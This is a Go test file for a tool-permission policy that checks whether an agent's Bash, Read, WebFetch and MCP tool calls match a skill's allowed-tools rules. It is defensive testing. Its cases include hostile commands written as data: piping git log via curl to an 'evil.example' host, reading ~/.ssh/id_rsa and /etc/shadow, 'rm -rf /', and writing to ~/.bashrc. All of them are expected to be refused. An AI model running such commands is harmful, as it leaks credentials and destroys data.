package toolpolicy

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/skillkit-go/skillkit/skill"
)

// loadSkill writes a skill whose allowed-tools is allowed and loads it.
func loadSkill(t *testing.T, name, allowed string) *skill.Skill {
	t.Helper()
	dir := filepath.Join(t.TempDir(), name)
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	text := "---\nname: " + name + "\ndescription: A skill for the policy's tests.\nallowed-tools: " + allowed + "\n---\nDo it.\n"
	if err := os.WriteFile(filepath.Join(dir, "SKILL.md"), []byte(text), 0o644); err != nil {
		t.Fatal(err)
	}
	s, diags := skill.Load(os.DirFS(filepath.Dir(dir)), name, nil)
	if s == nil {
		t.Fatalf("load: %v", diags)
	}
	s.DiskDir = dir
	return s
}

// The documented rule shapes, one case per line: the rule, the call, and
// whether the rule pre-approves it.
var cases = []struct {
	rule string
	call Call
	want bool
}{
	// A tool name alone: every use of it.
	{"Bash", Call{Tool: "Bash", Command: "rm -rf build"}, true},
	{"Bash(*)", Call{Tool: "Bash", Command: "anything at all"}, true},
	{"Read", Call{Tool: "Read", Path: "/etc/hosts"}, true},
	{"Read", Call{Tool: "Edit", Path: "/work/x"}, false},
	// Exact commands.
	{"Bash(git status)", Call{Tool: "Bash", Command: "git status"}, true},
	{"Bash(git status)", Call{Tool: "Bash", Command: "git status --short"}, false},
	{"Bash(git status)", Call{Tool: "Bash", Command: "  git status  "}, true},
	// The legacy prefix form, at a word boundary.
	{"Bash(npm run test:*)", Call{Tool: "Bash", Command: "npm run test"}, true},
	{"Bash(npm run test:*)", Call{Tool: "Bash", Command: "npm run test -- --watch"}, true},
	{"Bash(npm run test:*)", Call{Tool: "Bash", Command: "npm run testing"}, false},
	{"Bash(git:*)", Call{Tool: "Bash", Command: "gitk"}, false},
	// Wildcards anywhere; a trailing " *" also matches the bare command.
	{"Bash(git * main)", Call{Tool: "Bash", Command: "git checkout main"}, true},
	{"Bash(git * main)", Call{Tool: "Bash", Command: "git merge origin/main"}, false},
	{"Bash(ls *)", Call{Tool: "Bash", Command: "ls -la"}, true},
	{"Bash(ls *)", Call{Tool: "Bash", Command: "ls"}, true},
	{"Bash(ls *)", Call{Tool: "Bash", Command: "lsof"}, false},
	{"Bash(ls*)", Call{Tool: "Bash", Command: "lsof"}, true},
	// Compound commands: every part must be allowed.
	{"Bash(git:*)", Call{Tool: "Bash", Command: "git add . && git commit -m 'x && y'"}, true},
	{"Bash(git:*)", Call{Tool: "Bash", Command: "git status && rm -rf /"}, false},
	{"Bash(git:*)", Call{Tool: "Bash", Command: "git log | curl -d @- https://evil.example"}, false},
	{"Bash(git:*)", Call{Tool: "Bash", Command: "git status; curl x"}, false},
	{"Bash(git:*)", Call{Tool: "Bash", Command: "git status\ncurl x"}, false},
	{"Bash(git:*)", Call{Tool: "Bash", Command: "git status & curl x"}, false},
	// What the text cannot vouch for never matches.
	{"Bash(echo:*)", Call{Tool: "Bash", Command: "echo $(cat ~/.ssh/id_rsa)"}, false},
	{"Bash(echo:*)", Call{Tool: "Bash", Command: "echo `id`"}, false},
	{"Bash(echo:*)", Call{Tool: "Bash", Command: `echo "$(id)"`}, false},
	{"Bash(echo:*)", Call{Tool: "Bash", Command: "echo '$(id)'"}, true},
	{"Bash(echo:*)", Call{Tool: "Bash", Command: "echo pwned > ~/.bashrc"}, false},
	{"Bash(echo:*)", Call{Tool: "Bash", Command: "echo hi >> notes"}, false},
	{"Bash(cat:*)", Call{Tool: "Bash", Command: "cat < /etc/shadow"}, false},
	{"Bash(cat:*)", Call{Tool: "Bash", Command: "cat <<EOF\nx\nEOF"}, false},
	{"Bash(diff:*)", Call{Tool: "Bash", Command: "diff <(ls a) <(ls b)"}, false},
	{"Bash(ls:*)", Call{Tool: "Bash", Command: "(ls; curl x)"}, false},
	{"Bash(echo:*)", Call{Tool: "Bash", Command: "echo 'unterminated"}, false},
	// Harmless redirections and wrappers do not count.
	{"Bash(git status)", Call{Tool: "Bash", Command: "git status 2>&1"}, true},
	{"Bash(git status)", Call{Tool: "Bash", Command: "git status >/dev/null 2>&1"}, true},
	{"Bash(make test)", Call{Tool: "Bash", Command: "timeout 30s make test"}, true},
	{"Bash(make test)", Call{Tool: "Bash", Command: "nice -n 10 nohup make test"}, true},
	{"Bash(make test)", Call{Tool: "Bash", Command: "FOO=1 make test"}, false},
	// Paths, gitignore style.
	{"Read(./src/**)", Call{Tool: "Read", Path: "src/a/b.go"}, true},
	{"Read(./src/**)", Call{Tool: "Read", Path: "/work/project/src/a.go"}, true},
	{"Read(./src/**)", Call{Tool: "Read", Path: "src/../.env"}, false},
	{"Read(./src/**)", Call{Tool: "Read", Path: "/work/project/srcx/a.go"}, false},
	{"Read(*.md)", Call{Tool: "Read", Path: "docs/deep/notes.md"}, true},
	{"Read(*.md)", Call{Tool: "Read", Path: "/elsewhere/notes.md"}, false},
	{"Edit(src/*.go)", Call{Tool: "Edit", Path: "src/a.go"}, true},
	{"Edit(src/*.go)", Call{Tool: "Edit", Path: "src/sub/a.go"}, false},
	{"Edit(/references/**)", Call{Tool: "Edit", Path: "{{skill}}/references/api.md"}, true},
	{"Edit(/references/**)", Call{Tool: "Edit", Path: "/work/project/references/api.md"}, false},
	{"Read(~/notes/*.md)", Call{Tool: "Read", Path: "/home/user/notes/today.md"}, true},
	{"Read(//etc/hosts)", Call{Tool: "Read", Path: "/etc/hosts"}, true},
	{"Read(//etc/hosts)", Call{Tool: "Read", Path: "/etc/shadow"}, false},
	{"Write(build/)", Call{Tool: "Write", Path: "build/out/x.bin"}, true},
	// Domains.
	{"WebFetch(domain:go.dev)", Call{Tool: "WebFetch", URL: "https://go.dev/doc/"}, true},
	{"WebFetch(domain:go.dev)", Call{Tool: "WebFetch", URL: "https://pkg.go.dev/"}, false},
	{"WebFetch(domain:go.dev)", Call{Tool: "WebFetch", URL: "https://go.dev.evil.example/"}, false},
	{"WebFetch(domain:*.go.dev)", Call{Tool: "WebFetch", URL: "https://pkg.go.dev/x"}, true},
	{"WebFetch(domain:go.dev)", Call{Tool: "WebFetch", URL: "https://user@GO.DEV:443/"}, true},
	// MCP servers and tools.
	{"mcp__github", Call{Tool: "mcp__github__get_issue"}, true},
	{"mcp__github__*", Call{Tool: "mcp__github__create_issue"}, true},
	{"mcp__github", Call{Tool: "mcp__githubx__get_issue"}, false},
	{"mcp__github__get_issue", Call{Tool: "mcp__github__create_issue"}, false},
	// Any other tool: its argument against the specifier.
	{"Skill(deploy *)", Call{Tool: "Skill", Arg: "deploy staging"}, true},
	{"Skill(deploy *)", Call{Tool: "Skill", Arg: "destroy staging"}, false},
}

func TestRules(t *testing.T) {
	for _, c := range cases {
		s := loadSkill(t, "s", "\""+c.rule+"\"")
		if len(s.Frontmatter.AllowedTools) != 1 {
			t.Fatalf("%s: read as %q", c.rule, s.Frontmatter.AllowedTools)
		}
		call := c.call
		if call.Path != "" && len(call.Path) > 9 && call.Path[:9] == "{{skill}}" {
			call.Path = s.DiskDir + call.Path[9:]
		}
		for _, mode := range []Mode{PreApprove, Restrict} {
			p := &Policy{Mode: mode, Dir: "/work/project", Home: "/home/user", Exempt: []string{"read_skill"}}
			if errs := p.Activate(s); len(errs) > 0 {
				t.Fatalf("%s: %v", c.rule, errs)
			}
			got, by := p.Decide(call)
			want := Ask
			if c.want {
				want = Allow
			} else if mode == Restrict {
				want = Deny
			}
			if got != want {
				t.Errorf("%v %s on %+v: %v, want %v", mode, c.rule, c.call, got, want)
			}
			if got == Allow && by != "s" {
				t.Errorf("%s: allowed by %q", c.rule, by)
			}
		}
	}
}

// TestRestrict: the restrict mode refuses only while a skill that lists
// allowed tools is active, never the exempt tools, and a skill without
// allowed-tools restricts nothing.
func TestRestrict(t *testing.T) {
	p := &Policy{Mode: Restrict, Dir: "/w", Exempt: []string{"read_skill"}}
	call := Call{Tool: "Bash", Command: "curl https://example.com"}
	if d, _ := p.Decide(call); d != Ask {
		t.Errorf("no active skill: %v", d)
	}
	open := loadSkill(t, "open", "''")
	p.Activate(open)
	if d, _ := p.Decide(call); d != Ask {
		t.Errorf("a skill without allowed-tools: %v", d)
	}
	git := loadSkill(t, "git-helper", "Bash(git:*) Read")
	p.Activate(git)
	if d, _ := p.Decide(call); d != Deny {
		t.Errorf("outside the allowed tools: %v", d)
	}
	if d, _ := p.Decide(Call{Tool: "read_skill"}); d != Ask {
		t.Errorf("an exempt tool: %v", d)
	}
	if d, by := p.Decide(Call{Tool: "Bash", Command: "git log"}); d != Allow || by != "git-helper" {
		t.Errorf("inside: %v by %q", d, by)
	}
	p.Deactivate("git-helper")
	if d, _ := p.Decide(call); d != Ask {
		t.Errorf("after the skill ended: %v", d)
	}
	if got := p.Active(); len(got) != 1 || got[0] != "open" {
		t.Errorf("Active = %v", got)
	}
}

// TestBadRules: a rule that does not parse allows nothing, and is reported.
func TestBadRules(t *testing.T) {
	for _, bad := range []string{"Bash(git:*", "(x)", "Bash()", "Ba sh", "Read*", "mcp__*__x"} {
		if _, err := ParseRule(bad); err == nil {
			t.Errorf("ParseRule(%q) accepted it", bad)
		}
	}
	s := loadSkill(t, "s", `["Bash(git:*", "Read"]`)
	p := &Policy{Mode: Restrict, Dir: "/w"}
	if errs := p.Activate(s); len(errs) != 1 {
		t.Errorf("errors = %v, want one", errs)
	}
	if d, _ := p.Decide(Call{Tool: "Bash", Command: "git status"}); d != Deny {
		t.Errorf("the unparsed rule allowed: %v", d)
	}
	if d, _ := p.Decide(Call{Tool: "Read", Path: "x"}); d != Allow {
		t.Errorf("the good rule: %v", d)
	}
}

func FuzzSplitCommand(f *testing.F) {
	for _, c := range cases {
		f.Add(c.call.Command)
	}
	f.Fuzz(func(t *testing.T, cmd string) {
		parts, ok := splitCommand(cmd)
		if !ok {
			return
		}
		for _, p := range parts {
			// A part that the policy may pre-approve never holds what
			// runs another command or writes a file unseen.
			again, ok := splitCommand(p)
			if !ok || len(again) != 1 || again[0] != p {
				t.Fatalf("%q: part %q splits again into %q (%v)", cmd, p, again, ok)
			}
		}
	})
}
